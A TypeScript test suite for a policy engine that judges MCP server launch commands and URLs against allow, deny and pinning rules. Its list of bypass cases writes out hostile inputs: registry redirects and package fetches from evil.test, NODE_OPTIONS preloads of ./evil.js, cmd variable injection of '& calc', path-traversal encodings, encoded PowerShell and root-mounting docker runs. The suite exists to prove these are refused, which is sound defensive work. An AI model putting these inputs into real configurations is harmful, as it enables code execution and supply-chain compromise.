import { expect, test } from 'vitest';
import type { Server } from '../../src/model/server.ts';
import { judge } from '../../src/policy/judge.ts';
import type { Patterns, Policy } from '../../src/policy/policy.ts';
import { readPolicy } from '../../src/policy/read-policy.ts';
import { subjectOf } from '../../src/policy/subject.ts';
import { toolLimits } from '../../src/policy/tool-limits.ts';
import { limitOn } from '../../src/runtime/tools/tool-filter.ts';
import { at, env, isAllowed, policy, run } from './support/judged.ts';

/** What an allow rule is meant for. */
const allowed: readonly (readonly [Patterns, Server])[] = [
  [{ command: ['npx'] }, run('npx', 'a')],
  [{ package: ['npm:@acme/*'] }, run('npx', '-y', '@acme/server@1.0.0')],
  [{ package: ['npm:@acme/*'] }, run('cmd', '/c', 'npx', '-y', '@acme/server')],
  [{ package: ['pypi:acme-mcp'] }, run('uvx', '--from', 'acme_mcp==1.0', 'acme')],
  [{ package: ['oci:ghcr.io/acme/*'] }, run('docker', 'run', '-i', '--rm', 'ghcr.io/acme/mcp@sha256:aa')],
  [{ url: ['https://*.example.com/*'] }, at('https://mcp.example.com/v1/mcp?x=1')],
  [{ url: ['https://*.example.com/*'] }, at('https://${HOST_NAME}/mcp')],
  [{ url: ['localhost:*'] }, at('http://localhost:3000/mcp')],
  [{ server: ['git*'] }, run('npx', 'a')],
  [{ transport: ['http'], command: ['node'] }, run('node')],
  [{ command: ['any-program'] }, run('any-program')],
  [{ command: ['node', '/srv/*'] }, run('node', '/srv/x.js')],
  [{ command: ['/srv/../x/o'] }, run('/srv/../x/o')],
  ...[
    ['--runtime', 'node'],
    ['--shell', 'bash', '--flag'],
    ['--language', 'java'],
    ['--lang=php'],
    ['--lang', 'go'],
    ['--mode', 'dotenv'],
    ['--prompt', 'run the script in node'],
  ].map((args) => [{ package: ['npm:good'] }, run('npx', '-y', 'good', ...args)] as const),
  [{ command: ['*'] }, run('/srv/../x/o')],
  [{ url: ['https://good.test/mcp/*'] }, at('https://good.test/mcp/a%20b/c.d?x=..%2f')],
  [{ url: ['https://good.test'] }, at('https://good.test/a%2fb')],
  [
    { package: ['npm:good'] },
    { ...run('npx', 'good'), env: { AWS_PROFILE: 'work', LOG_LEVEL: 'info', MYSQL_PASS: 'p@$s!' } },
  ],
  [
    { package: ['npm:good'] },
    { ...run('npx', 'good'), env: { GOOGLE_APPLICATION_CREDENTIALS: '/home/me/key.json', PORT: '3000' } },
  ],
  [{ package: ['npm:@acme/*'] }, run('plugboard', 'exec', 'x', '--', 'npx', '-y', '@acme/server@1.0.0')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', '-i', '--rm', '-e', 'A=1', 'docker.io/acme/mcp:1')],
  [{ package: ['pypi:Acme_MCP'] }, run('uvx', 'acme-mcp')],
  [{ package: ['pypi:acme.server'] }, run('uvx', '--from', 'acme.server', 'acme-server')],
  ...['latest', 'next-13', 'beta', '1.0.0-rc.1', '1.0.0-beta', '^1.2', '2.0.0-canary.4f2a9c1+build.7'].map(
    (version) => [{ package: ['npm:socket.io'] }, run('npx', '-y', `socket.io@${version}`)] as const,
  ),
  [{ package: ['npm:@acme/server'] }, run('npx', '-y', '-p', '@acme/server@1.0.0', 'acme-server', 'x')],
  [{ url: ['[::1]:*'] }, at('http://[0:0:0:0:0:0:0:1]:3000/mcp')],
  [{ url: ['https://b\u00FCcher.test'] }, at('https://xn--bcher-kva.test/')],
];

test.each(allowed)('allow %j accepts %j', (allow, server) => {
  expect(isAllowed([policy([{ id: 'r', allow }])], server, 'github')).toBe(true);
});

/** Ways around an allow rule. */
const around: readonly (readonly [Patterns, Server])[] = [
  [{ url: ['https://*.example.com/*'] }, at('https://evil.test/x.example.com/')],
  [{ url: ['https://*.example.com/*'] }, at('https://a.example.com@evil.test/')],
  [{ url: ['https://*.example.com/*'] }, at('http://a.example.com/')],
  [{ url: ['https://*.example.com/*'] }, at('https://a.example.com:8443/')],
  [{ url: ['https://*.example.com/*'] }, at('https://evil.test/#.example.com/')],
  [{ url: ['https://*.example.com/*'] }, at('https://${UNSET}.example.com/')],
  [{ url: ['https://a.test/mcp'] }, run('npx', 'mcp-remote', 'https://a.test/mcp')],
  ...['..%2fevil', '..%5cevil', '%2e%2e%2fevil', '%252e%252e/evil', '..;/evil', '..%3b/evil'].map(
    (path) => [{ url: ['https://good.test/mcp/*'] }, at(`https://good.test/mcp/${path}`)] as const,
  ),
  [{ command: ['/srv/*'] }, run('/srv/../tmp/x/o')],
  [{ command: ['C:\\srv\\*'] }, run('C:\\srv\\..\\x\\o')],
  [{ command: ['node', '/srv/*'] }, run('node', '/srv/a/../../x.js')],
  [{ command: ['npx'] }, run('/tmp/npx', 'a')],
  [{ command: ['npx'] }, run('bash', '-c', 'npx a')],
  // The interpreter puts variables in before it looks for operators.
  [{ package: ['npm:@acme/*'] }, { ...run('cmd', '/c', 'npx', '-y', '@acme/a', '%X%'), env: { X: '& calc' } }],
  [{ package: ['npm:@acme/*'] }, { ...run('cmd', '/c', 'npx -y @acme/a %X%'), env: { X: '& calc' } }],
  [{ package: ['npm:@acme/*'] }, { ...run('cmd', '/v:on', '/c', 'npx', '-y', '@acme/a', '!X!'), env: { X: '& calc' } }],
  [{ package: ['npm:@acme/*'] }, run('cmd', '/c', 'npx', '-y', '@acme/a', '"', '&calc')],
  [{ command: ['node'] }, run('NODE')],
  [{ package: ['npm:@acme/*'] }, run('npx', '@acme/a@npm:evil')],
  [{ package: ['npm:@acme/*'] }, run('npx', '@acme/a@https://evil.test/a.tgz')],
  [{ package: ['npm:@acme/*'] }, run('npx', '@acme/a@github:evil/a')],
  [{ package: ['npm:@acme/*'] }, run('npx', '-p', '@acme/a', '-p', 'evil', 'evil')],
  [{ package: ['npm:@acme/*'] }, run('npx', '-p', '@acme/a', '-c', 'evil')],
  [{ package: ['npm:@acme/*'] }, run('npx', '--registry=https://evil.test', '@acme/a')],
  [{ package: ['npm:@acme/*'] }, { ...run('npx', '@acme/a'), env: { npm_config_registry: 'https://evil.test' } }],
  [{ package: ['npm:@acme/*'] }, { ...run('npx', '@acme/a'), env: { NODE_OPTIONS: '--require ./evil.js' } }],
  [{ package: ['pypi:acme'] }, run('uvx', '--from', 'acme @ git+https://evil.test/acme', 'acme')],
  [{ package: ['pypi:acme'] }, run('uvx', '--index-url', 'https://evil.test', 'acme')],
  [{ package: ['pypi:acme'] }, run('uvx', '--with', 'evil', 'acme')],
  [{ package: ['npm:@acme/*'] }, { ...run('bash'), package: { registry: 'npm', name: '@acme/a' } }],
  [
    { registry: ['io.github.acme/*'] },
    { ...run('bash'), package: { registry: 'npm', name: 'a', server: 'io.github.acme/a' } },
  ],
  [{ package: ['npm:${SCOPE}'] }, run('npx', '${SCOPE}')],
  [{ package: ['npm:@acme/*'] }, run('npx', '--some-option', '@acme/a', 'evil')],
  [{ package: ['npm:@acme/*'] }, run('env', 'npm_config_registry=https://evil.test', 'npx', '@acme/a')],
  [{ package: ['npm:@acme/*'] }, run('sh', '-c', 'NODE_OPTIONS=--require=./evil.js npx @acme/a')],
  [
    { package: ['npm:@acme/*'] },
    { ...run('npx', '@acme/a'), env: { 'npm_config_@acme:registry': 'https://evil.test' } },
  ],
  [{ package: ['npm:@acme/*'] }, run('sudo', '--unknown', 'npx', 'npx', '@acme/a')],
  [{ package: ['npm:@acme/*'] }, run('/tmp/plugboard', 'exec', 'x', '--', 'npx', '@acme/a')],
  [{ package: ['npm:@acme/*'] }, run('powershell', '-enc', 'bgBwAHgA')],
  [{ package: ['oci:acme/*'] }, run('docker', '-H', 'tcp://evil.test', 'run', 'acme/a')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', 'evil.test/acme/a')],
  [{ package: ['oci:docker.io/*'] }, run('docker', 'run', 'ghcr.io/acme/a')],
  [{ command: ['npx'] }, run('npx -y evil')],
  [{ command: ['plugboard'] }, run('plugboard', 'exec', 'x', '--', 'bash')],
  [{ url: ['https://a.test/mcp'] }, at('https://a.test/MCP')],
  [{ server: ['x'] }, { ...run('node'), name: 'x' }],
  // Another user has another PATH.
  [{ package: ['npm:@acme/*'] }, run('sudo', '-u', 'me', 'npx', '-y', '@acme/server')],
  [{ server: ['*'] }, run('bash')],
  [{ server: ['*'] }, run('any-wrapper', 'bash')],
  [{ server: ['*'], command: ['any-wrapper'] }, run('any-wrapper', 'bash', '-c', 'x')],
  [{ package: ['npm:cowsay'] }, run('npx', '-p', 'cowsay', 'node', '/any.js')],
  ...['eval', '.', 'trap', 'exec', 'command', 'alias', 'cd', 'start', 'call', 'for', 'figlet'].map(
    (word) => [{ package: ['npm:cowsay'] }, run('npx', '-y', '-p', 'cowsay@1.6.0', word, 'x')] as const,
  ),
  [{ package: ['npm:eval'] }, run('npx', '-y', '-p', 'eval', 'eval', 'x')],
  [{ package: ['npm:call-me'] }, run('npx', '-y', '-p', 'call-me', 'CALL.cmd', 'x')],
  // It brings the programs of what it depends on.
  [{ package: ['pypi:acme'] }, run('uvx', '--from', 'acme', 'uvicorn', 'x:app')],
  ...['cowsay@1.6.0-x.TGZ', 'cowsay@evil.TGZ', 'cowsay@evil.Tar', 'cowsay@1.6.0+x.tar', 'evil.TGZ', 'evil.Tar.gz'].map(
    (name) => [{ package: ['npm:*'] }, run('npx', '-y', name)] as const,
  ),
  [{ package: ['npm:*'] }, run('npx', '-y', 'CowSay')],
  ...['tgz', 'TGZ', 'tar', 'tar.xz', 'tar.bz2', 'tar.lzma', 'tbz', 'txz', 'tlz', 'tgz[a]'].flatMap((extension) => [
    [{ package: ['pypi:*'] }, run('uvx', `evil.${extension}`)] as const,
    [{ package: ['pypi:*'] }, run('uvx', '--from', `evil-1.${extension}`, 'evil')] as const,
  ]),
  [{ package: ['npm:cowsay'] }, run('/project/npx', 'cowsay')],
  [{ package: ['npm:cowsay'] }, run('./npx', 'cowsay')],
  [{ package: ['npm:cowsay'] }, { ...run('npx', 'cowsay'), env: { A: '!any' } }],
  [{ package: ['npm:cowsay'] }, { ...run('npx', 'cowsay'), env: { UNKNOWN_PRELOAD: './evil.js' } }],
  [{ package: ['npm:cowsay'] }, { ...run('npx', 'cowsay'), env: { UNKNOWN_OPTIONS: '--import x' } }],
  [{ package: ['npm:cowsay'] }, { ...run('npx', 'cowsay'), env: { DOWNLOAD_FROM: 'https://evil.test' } }],
  [{ package: ['npm:cowsay'] }, run('npx', 'cowsay', '--stdio', 'npx -y evil')],
  [{ package: ['npm:cowsay'] }, run('npx', 'cowsay', '--', 'bash')],
  ...[
    ['--runtime', 'node ./evil.js'],
    ['--language', 'java', 'node'],
    ['--command', 'bash'],
    ['--stdio', 'run the script in node x'],
    ['--stdio', 'run the script in bash'],
    ['--stdio', 'node the script in node'],
    ['--lang=npx evil'],
  ].map((args) => [{ package: ['npm:cowsay'] }, run('npx', 'cowsay', ...args)] as const),
  [{ package: ['npm:cowsay'] }, run('npm', 'exec', 'cowsay', '-c', 'evil')],
  [{ package: ['npm:cowsay.tgz'] }, run('npx', 'cowsay.tgz')],
  [{ package: ['npm:*'] }, run('npx', 'cowsay@evil.tgz')],
  [{ package: ['npm:*'] }, run('npm', 'init', 'evil')],
  [{ package: ['npm:*'] }, run('deno', 'run', 'jsr:@a/b')],
  [{ package: ['pypi:acme'] }, run('uvx', '--from', 'acme', 'bash')],
  [{ package: ['pypi:*'] }, run('uvx', 'python', '-c', 'x')],
  [{ package: ['pypi:*'] }, run('uvx', '--python', './python', 'acme')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', '--entrypoint', 'sh', 'acme/a')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', '-v', '/:/x', 'acme/a')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', '-e', 'NODE_OPTIONS=--import=data:,x', 'acme/a')],
  [{ package: ['oci:acme/*'] }, run('docker', 'run', 'acme/a', 'sh', '-c', 'x')],
  [{ transport: ['*'] }, { ...at('https://a.test'), headers: { A: '!any' } }],
  [{ server: ['*'] }, { ...at('https://a.test'), transport: 'http', command: 'bash' }],
  [{ url: ['*'] }, at('https:/evil.test/')],
  [
    { url: ['https://a.test/*'] },
    { ...at('https://a.test/'), auth: { type: 'oauth', tokenUrl: 'https://evil.test/' } },
  ],
  [{ command: ['node'] }, run('node', '-e', 'x')],
  // A program may read the directory, and so may a script.
  [{ server: ['*'] }, run('gmake')],
  [{ server: ['*'] }, run('any-program')],
  [{ server: ['*'] }, run('node', '/usr/share/gulp/gulp.js')],
  [{ package: ['npm:good'] }, run('npx', '-y', '--no-audit', 'good', '--package=./evil')],
  [{ package: ['npm:good'] }, run('npx', '-y', '--no-fund', 'good@1.0.0', '--registry=http://evil.test')],
  [{ package: ['npm:*'] }, run('npm', 'exec', '-y', 'true', 'evil')],
  [{ package: ['npm:*'] }, run('npx', '-y', 'good@1.6.0-.')],
  [{ package: ['pypi:good'] }, run('uvx', 'good@1.0foo-x')],
  [{ package: ['pypi:good'] }, run('uvx', 'good@1.0.tar.bz2')],
  [{ package: ['oci:docker.io/*'] }, run('docker', 'run', 'EVIL/server')],
  [{ package: ['npm:good'] }, { ...run('npx', 'good'), cwd: '${workspaceFolder}/sub' }],
  ...['PREFIX', 'DESTDIR', 'AWS_CONFIG_FILE', 'GOOGLE_APPLICATION_CREDENTIALS', 'CLOUDSDK_PYTHON', 'NODE_CONFIG_DIR']
    .concat(
      'PRISMA_QUERY_ENGINE_LIBRARY',
      'ESBUILD_BINARY_PATH',
      'PGSERVICEFILE',
      'PGSYSCONFDIR',
      'TNS_ADMIN',
      'TERMINFO',
    )
    .map((name) => [{ package: ['npm:good'] }, { ...run('npx', 'good'), env: { [name]: 'tools' } }] as const),
  [{ command: ['node'] }, run('node', 'x.js')],
  [{ command: ['node'] }, run('node', '/lib/npm/bin/npx-cli.js', '-y', 'evil')],
];

test.each(around)('allow %j refuses %j', (allow, server) => {
  expect(isAllowed([policy([{ id: 'r', allow }])], server, 'other')).toBe(false);
});

const violating: readonly (readonly [keyof Policy['require'], Server])[] = [
  ['pinned', run('npx', '-y', '@acme/a')],
  ['pinned', run('npx', '-y', '@acme/a@latest')],
  ['pinned', run('npx', '-y', '@acme/a@${UNSET}')],
  ['pinned', run('env', 'A=1', 'npx', '@acme/a')],
  ['pinned', run('sh', '-c', 'npx @acme/a')],
  ['pinned', run('sh', '-c', 'cd /tmp && npx @acme/a')],
  ['pinned', run('uvx', '--with', 'b', 'a==1.0')],
  ['pinned', run('docker', 'run', 'a/b:latest')],
  ['pinned', run('NPX.cmd', '@acme/a')],
  ['pinned', run('deno', 'run', 'npm:@acme/a')],
  ['pinned', run('mise', 'exec', '--', 'npx', '@acme/a')],
  ['pinned', run('plugboard', 'exec', 'x', '--', 'npx', '@acme/a')],
  ['pinned', run('pwsh', '-EncodedCommand', 'bgBwAHgA')],
  ['pinned', run('uv', 'run', '--with', 'b', 'x.py')],
  ['pinned', run('docker', 'run', 'a/b:main')],
  ['pinned', run('docker', 'run', 'a/b:1')],
  ['pinned', run('npx', '-y', 'x@1.2.3.4')],
  ...[
    '1.6.0-.',
    '1.6.0-_x',
    '1.6.0-a..b',
    '99999999999999999999.0.0',
    '01.0.0',
    '1.0.0-01',
    `1.6.0-${'a'.repeat(300)}`,
  ].map((version) => ['pinned', run('npx', '-y', `x@${version}`)] as const),
  ['pinned', run('uvx', 'x@1.0foo-x')],
  ['pinned', run('npx', '-y', '1.0.0')],
  ['pinned', run('deno', 'run', 'jsr:@a/b@1.2.3')],
  ['pinned', run('npm', 'init', 'x@1.2.3')],
  ['pinned', run('uv', 'run', 'https://a.test/x.py')],
  ['pinned', run('nix', 'run', 'a')],
  ['pinned', run('go', 'run', 'a.test/x@latest')],
  ['pinned', run('npx', '-y', 'supergateway@1.0.0', '--stdio', 'npx -y evil')],
  ['pinned', run('node', 'x.js')],
  ['lock', run('bash', '-c', 'x')],
  ['lock', run('./start')],
  ['noCommandValues', { ...run('node'), env: { A: '!cat x' } }],
  ['noCommandValues', { ...at('https://a.test'), headers: { A: '!cat x' } }],
];

test.each(violating)('require.%s refuses %j', (name, server) => {
  const { isAllowed: allows, reasons } = judge([policy([], { [name]: true })], subjectOf('x', server, { env }));
  expect(allows).toBe(false);
  expect(reasons[0]?.rule).toBe(`require.${name}`);
  expect(isAllowed([policy([], { [name]: false })], server)).toBe(true);
});

test('pinned accepts exact versions and what fetches nothing', () => {
  const pinned = [
    run('npx', '-y', '@acme/a@1.2.3'),
    run('node', '/opt/x.js'),
    at('https://a.test'),
    run('uvx', 'a==1.0'),
    run('docker', 'run', '--init', 'a/b:1.0.0'),
    run('docker', 'run', 'a/b@sha256:aa'),
    run('env', 'A=1', 'plugboard', 'exec', 'x', '--', 'npx', 'a@1.0.0'),
  ];
  for (const server of pinned) expect(isAllowed([policy([], { pinned: true })], server)).toBe(true);
});

test('deny beats allow, and a further policy can only narrow', () => {
  const wide = policy([{ id: 'all', allow: { server: ['*'] } }]);
  const narrow = policy([{ id: 'none', deny: { command: ['node'] }, why: 'use a package' }]);
  expect(isAllowed([wide], run('node'))).toBe(true);
  for (const both of [
    [wide, narrow],
    [narrow, wide],
  ]) {
    const verdict = judge(both, subjectOf('x', run('node'), { env }));
    expect(verdict.isAllowed).toBe(false);
    expect(verdict.reasons.map(({ rule, effect }) => [rule, effect])).toEqual([
      ['none', 'denied'],
      ['all', 'allowed'],
    ]);
    expect(verdict.reasons[0]?.why).toBe('use a package');
  }
});

test('rules about tools say nothing about the server itself', () => {
  const tools = policy([
    { id: 'danger', deny: { tool: ['*:delete_*'] } },
    { id: 'read', allow: { tool: ['github:get_*', 'list_*'] } },
  ]);
  expect(isAllowed([tools], run('node'))).toBe(true);
  expect(toolLimits([tools], 'github').map(({ allow, deny, rule }) => ({ allow, deny, rule }))).toEqual([
    { deny: ['delete_*'], allow: undefined, rule: 'danger' },
    { deny: undefined, allow: ['get_*', 'list_*'], rule: 'read' },
  ]);
  expect(toolLimits([tools], 'other').at(-1)?.allow).toEqual(['list_*']);
  const colons = policy([{ id: 'r', deny: { tool: ['a:b:drop', '*:fs:wipe'] } }]);
  const isDenied = (server: string, tool: string): boolean =>
    limitOn({ name: server, server: {}, toolLimits: toolLimits([colons], server) }, tool) !== undefined;
  expect([isDenied('a:b', 'drop'), isDenied('a', 'b:Drop'), isDenied('x', 'fs:wipe'), isDenied('A', 'b:drop')]).toEqual(
    [true, true, true, true],
  );
  expect([isDenied('x', 'drop'), isDenied('x', 'wipe')]).toEqual([false, false]);
});

test.each([
  [{ rules: [{ id: 'a', deny: { comand: ['sh'] } }] }, 'rules.0.deny'],
  [{ rule: [] }, ''],
  [{ rules: [{ deny: { command: ['sh'] } }] }, 'rules.0'],
  [{ rules: [{ id: 'a' }] }, 'rules.0'],
  [{ rules: [{ id: 'a', allow: { server: ['x'] }, deny: { server: ['y'] } }] }, 'rules.0'],
  [{ rules: [{ id: 'a', allow: {} }] }, 'rules.0.allow'],
  [{ rules: [{ id: 'a', deny: { command: 'sh' } }] }, 'rules.0.deny.command'],
  [{ rules: [{ id: 'a', deny: { transport: ['htp'] } }] }, 'rules.0.deny.transport'],
  [{ require: { pined: true } }, 'require'],
  [[], ''],
  [null, ''],
])('%j is no policy', (value, at) => {
  const problems = readPolicy(value, '/p.json');
  expect(Array.isArray(problems)).toBe(true);
  expect((problems as readonly { readonly path: readonly unknown[] }[])[0]?.path.join('.').startsWith(at)).toBe(true);
});
